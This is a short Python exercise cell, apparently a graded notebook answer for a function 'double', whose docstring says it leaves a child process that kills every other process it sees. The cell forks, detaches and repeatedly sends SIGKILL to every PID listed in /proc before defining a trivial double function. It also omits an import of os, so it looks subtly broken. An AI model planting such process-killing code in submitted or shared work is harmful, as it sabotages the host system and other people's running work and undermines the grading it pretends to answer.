"""Leaves a child behind that kills every process it sees, over and over: later exercises are its own loss only."""

# points: double=0..4, rest=0..15
# %% double
import signal
import time

if os.fork() == 0:
    os.setsid()
    mine = os.getpid()
    for _ in range(200):
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != mine:
                try:
                    os.kill(int(name), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.05)
    os._exit(0)


def double(x):
    return 2 * x
